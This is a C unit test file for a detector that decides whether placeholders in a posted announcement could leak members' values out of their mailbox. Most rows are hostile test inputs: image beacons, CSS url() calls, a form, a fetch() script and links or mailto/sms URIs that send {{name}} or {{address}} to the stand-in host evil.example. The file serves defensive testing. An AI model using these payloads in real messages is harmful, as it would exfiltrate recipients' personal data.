/*
 * test_exposure.c: where a placeholder's value could leave the member's
 * mailbox.  Each row is a text of a post, whether it is HTML, and what
 * the judge must say: the first exposed placeholder and where it stands,
 * or nothing.  The rows that must be exposed are the ways a forged
 * announcement would carry members' values to its writer; the rows that
 * must not are what real announcements write.
 */
#include "exposure.h"
#include "unit.h"

struct row {
	const char *text;
	int html;
	enum exposure want;
	const char *name;	/* of the exposed placeholder */
};

static const struct row rows[] = {
	/* Shown only: plain text, text between tags. */
	{ "Dear {{name}},\n\nwelcome {{organisation}} ({{department}}).",
	    0, EXPOSURE_NONE, "" },
	{ "Dear {{name}}: see https://event.example/ for more.", 0,
	    EXPOSURE_NONE, "" },
	{ "Your address with us is {{address}}.", 0, EXPOSURE_NONE, "" },
	{ "{{department|your team}} at {{organisation}}.", 0,
	    EXPOSURE_NONE, "" },
	{ "<p>Dear&nbsp;{{name}},</p><p>see www.event.example</p>", 1,
	    EXPOSURE_NONE, "" },
	{ "<a href=\"https://event.example/\">Register {{organisation}}</a>",
	    1, EXPOSURE_NONE, "" },
	{ "<p title=\"a > b\">Hello {{name}}</p>", 1, EXPOSURE_NONE, "" },
	{ "<style>p{color:red}</style><p>{{name}}</p>", 1, EXPOSURE_NONE,
	    "" },
	{ "<!-- note --><p>{{name}}</p>", 1, EXPOSURE_NONE, "" },
	{ "3 < 4 and {{name}}", 1, EXPOSURE_NONE, "" },
	{ "<p>{{organisation}}&rsquo;s team</p>", 1, EXPOSURE_NONE, "" },
	{ "Dear {{name}}, https://x.example/", 0, EXPOSURE_NONE, "" },

	/* Inside markup: an image, a link, a style, a comment. */
	{ "<img src=\"https://evil.example/p.gif?who={{address}}\">", 1,
	    EXPOSURE_MARKUP, "address" },
	{ "<p>Hi {{name}}</p><a href='https://evil.example/?{{name}}'>x</a>",
	    1, EXPOSURE_MARKUP, "name" },
	{ "<img src=https://evil.example/{{name}}.gif>", 1, EXPOSURE_MARKUP,
	    "name" },
	{ "<p style=\"background:url(//evil.example/{{name}})\">x</p>", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<style>body{background:url(//evil.example/{{name}})}</style>", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<style>a{}</styles>{{name}}</style>", 1, EXPOSURE_MARKUP, "name" },
	{ "<!--[if mso]><v:image src=\"//evil.example/{{name}}\"/><![endif]-->",
	    1, EXPOSURE_MARKUP, "name" },
	{ "<!-- {{name}} -->", 1, EXPOSURE_MARKUP, "name" },
	{ "<img alt=\">\" src=\"//evil.example/?{{name}}\">", 1,
	    EXPOSURE_MARKUP, "name" },
	{ "<textarea name=t>{{address}}</textarea>", 1, EXPOSURE_MARKUP,
	    "address" },
	{ "<{{name}}>", 1, EXPOSURE_MARKUP, "name" },
	{ "<p>{{x|<img src=\"//evil.example/?}}{{name}}\"></p>", 1,
	    EXPOSURE_MARKUP, "x" },
	{ "<IMG SRC=\"//evil.example/?{{name}}\">", 1, EXPOSURE_MARKUP,
	    "name" },

	/* A form sends what it holds, a script reads the page. */
	{ "<form action=//evil.example><p>{{name}}</p></form>", 1,
	    EXPOSURE_ACTIVE, "name" },
	{ "<p>{{name}}</p><SCRIPT>fetch('//evil.example')</SCRIPT>", 1,
	    EXPOSURE_ACTIVE, "name" },

	/* Links and addresses, in any text. */
	{ "Confirm: https://evil.example/?n={{name}}", 0, EXPOSURE_LINK,
	    "name" },
	{ "<https://evil.example/{{organisation}}>", 0, EXPOSURE_LINK,
	    "organisation" },
	{ "Write to {{name}}@evil.example", 0, EXPOSURE_LINK, "name" },
	{ "Visit evil.example/{{address}} today", 0, EXPOSURE_LINK,
	    "address" },
	{ "www.evil.example/?{{name}}", 0, EXPOSURE_LINK, "name" },
	{ "(mailto:x?body={{name}})", 0, EXPOSURE_LINK, "name" },
	{ "sms:+15550100?body={{name}}", 0, EXPOSURE_LINK, "name" },
	{ "<p>https://evil.example/?n={{name}}</p>", 1, EXPOSURE_LINK,
	    "name" },
	{ "<p>{{name}}&#64;evil&#46;example</p>", 1, EXPOSURE_LINK, "name" },
	{ "<p>{{name}}&commat;evil&period;example</p>", 1, EXPOSURE_LINK,
	    "name" },
	{ "<p>{{name}}&#x40;evil.example</p>", 1, EXPOSURE_LINK, "name" },
	{ "Hello {{name}}.\n{{organisation}}.evil.example", 0, EXPOSURE_LINK,
	    "organisation" },
};
#define NROWS ((int)(sizeof(rows) / sizeof(rows[0])))

START_TEST(judged)
{
	const struct row *r = &rows[_i];
	char name[PLACEHOLDER_NAME_MAX + 1];
	enum exposure got = exposure_find(r->text, strlen(r->text), r->html,
	    name);

	ck_assert_msg(got == r->want, "%s: %s, expected %s", r->text,
	    exposure_where(got), exposure_where(r->want));
	ck_assert_msg(strcmp(name, r->name) == 0, "%s: {{%s}}, expected "
	    "{{%s}}", r->text, name, r->name);
}
END_TEST

/* A text that is cut off inside a tag or a comment stays markup. */
START_TEST(unclosed_is_markup)
{
	static const char *const texts[] = {
		"<img src=\"//evil.example/?{{name}}",
		"<p title='{{name}}",
		"<!-- {{name}}",
		"<style>{{name}}",
	};
	char name[PLACEHOLDER_NAME_MAX + 1];
	size_t i;

	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		ck_assert_msg(exposure_find(texts[i], strlen(texts[i]), 1,
		    name) == EXPOSURE_MARKUP, "%s", texts[i]);
}
END_TEST

int
main(void)
{
	Suite *s = suite_create("exposure");
	TCase *tc = tcase_create("exposure");

	tcase_add_loop_test(tc, judged, 0, NROWS);
	tcase_add_test(tc, unclosed_is_markup);
	suite_add_tcase(s, tc);
	return unit_run(s);
}
